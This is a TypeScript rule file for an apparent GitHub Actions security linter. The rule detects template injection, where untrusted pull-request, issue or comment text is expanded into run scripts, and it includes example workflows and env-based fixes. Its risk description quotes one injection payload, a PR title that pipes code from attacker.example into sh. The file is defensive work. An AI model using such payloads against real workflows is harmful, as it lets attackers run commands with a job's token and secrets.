import { lowered } from "@trustchain/findings";
import type { Expression } from "../../expressions/index.js";
import { handOverThroughEnv } from "../../fixes/hand-over/index.js";
import { type EmbeddedExpression, expressionsIn, nameOf, type Step } from "../../model/index.js";
import { defineRule, type Report } from "../../rule.js";
import type { ShellName } from "../../shell/index.js";
import { codeInputsOf, languageOf } from "../../trust/code-inputs.js";
import { isSetBy } from "../../trust/event-contexts.js";
import { holdingsOf, holdsNothing } from "../../trust/holdings.js";
import { type Rating, rateExpression } from "../../trust/rating.js";
import type { YamlScalar } from "../../yaml/index.js";

export default defineRule({
  id: "template-injection",
  category: "injection",
  severity: "high",
  isZizmor: true,
  fixes: "both",
  summary: "Text that others write is expanded into a script",
  risk: "The runner pastes the text into the script before the shell reads it. A pull request titled `$(curl attacker.example|sh)` is then a command in your job, with its token and its secrets.",
  mend: 'Hand the value over in `env:` and read the variable in the script, in double quotes: `echo "${TITLE}"`.',
  sources: [
    "https://docs.github.com/actions/concepts/security/script-injections",
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
  ],
  examples: {
    flagged: [
      {
        text: `on: pull_request_target
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          set -e
          echo "Title: \${{ github.event.pull_request.title }}"
`,
        at: [9],
        severity: "high",
        fixed: `on: pull_request_target
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          set -e
          echo "Title: \${PULL_REQUEST_TITLE}"
        env:
          PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
`,
      },
      {
        text: `on: issues
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ format('{0}', github.event.issue.body) }}
`,
        at: [7],
        severity: "medium",
      },
      {
        text: `on: issue_comment
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
        with:
          script: |
            core.info(\`\${{ github.event.comment.body }}\`)
`,
        at: [10],
        fixed: `on: issue_comment
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
        with:
          script: |
            core.info(\`\${process.env.COMMENT_BODY}\`)
        env:
          COMMENT_BODY: \${{ github.event.comment.body }}
`,
      },
      {
        path: "act/action.yml",
        text: `name: c
description: c
inputs:
  name: {description: n}
runs:
  using: composite
  steps:
    - run: Write-Output "Hello \${{ inputs.name }}"
      shell: pwsh
`,
        at: [8],
        severity: "high",
        fixed: `name: c
description: c
inputs:
  name: {description: n}
runs:
  using: composite
  steps:
    - run: Write-Output "Hello \${env:INPUTS_NAME}"
      env:
        INPUTS_NAME: \${{ inputs.name }}
      shell: pwsh
`,
      },
      {
        text: `on: push
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ github.sha }}
`,
        at: [7],
        persona: "pedantic",
        severity: "low",
      },
    ],
    silent: [
      {
        text: `on: pull_request_target
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: \${{ github.event.pull_request.title }}
`,
        because: "the shell gets the text as a variable's value and never reads it as code",
      },
      {
        text: `on: pull_request_target
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo \${{ github.event.pull_request.title == 'x' }}
          echo \${{ github.event.pull_request.number }} \${{ github.event.pull_request.head.sha }}
          echo \${{ contains(github.event.pull_request.body, 'x') && 'yes' || 'no' }}
`,
        because: "a comparison gives `true` or `false`, and numbers and hashes hold nothing that a shell acts on",
      },
    ],
  },

  run(run, report) {
    judge(run.scalar, run.shell, run.step, report);
  },

  uses({ uses, step }, report) {
    if (!step || uses.target.kind !== "repository" || !step.with) return;
    const name = nameOf(uses.target);
    for (const input of codeInputsOf(name)) {
      const value = step.input(input)?.value;
      if (value?.kind === "scalar") judge(value, languageOf(name), step, report);
    }
  },
});

const LANGUAGES: Readonly<Record<ShellName, string>> = {
  bash: "a shell script",
  sh: "a shell script",
  pwsh: "a PowerShell script",
  powershell: "a PowerShell script",
  cmd: "a batch script",
  python: "a Python program",
  javascript: "a JavaScript program",
  unknown: "code",
};

function judge(scalar: YamlScalar, shell: ShellName, step: Step, report: Report): void {
  for (const embedded of expressionsIn(scalar)) {
    const { expression } = embedded;
    if (!expression) continue;
    const rating = rateExpression(expression, step);
    if (rating.persona === "pedantic" && report.persona === "regular") continue;
    speak(embedded, rating, shell, step, report);
  }
}

function speak(embedded: EmbeddedExpression, rating: Rating, shell: ShellName, step: Step, report: Report): void {
  const language = isShellSure(embedded.scalar, step) ? LANGUAGES[shell] : "a script";
  const cause = rating.node
    ? `\`${asWritten(embedded, rating.node)}\` is ${rating.why}, and it is`
    : "An expression is";
  const isNeverSet = rating.persona === "regular" && !isSetBy(rating.source, step);
  const note = isNeverSet ? " (none of the workflow's events sets it)" : "";
  report({ file: embedded.file, ...embedded.spanOf() }, `${cause} expanded into ${language}${note}`, {
    severity: hasLittleToLose(step) ? lowered(rating.severity) : rating.severity,
    confidence: isNeverSet ? "low" : rating.confidence,
    persona: rating.persona,
    fix: rating.source === "" ? null : handOverThroughEnv(embedded, shell, step),
  });
}

/** Code of an action has one language; which shell reads a script may depend on a runner that isn't known. */
function isShellSure(scalar: YamlScalar, step: Step): boolean {
  if (step.run?.scalar !== scalar) return true;
  const { from } = step.shell;
  return from !== "mixed" && from !== "unknown";
}

function asWritten({ scalar }: EmbeddedExpression, { start, end }: Expression): string {
  return scalar.value.slice(start, end).replace(/\s+/g, " ");
}

/** The caller decides what a composite action's job holds. */
function hasLittleToLose({ owner }: Step): boolean {
  return owner.kind === "normal" && holdsNothing(holdingsOf(owner));
}
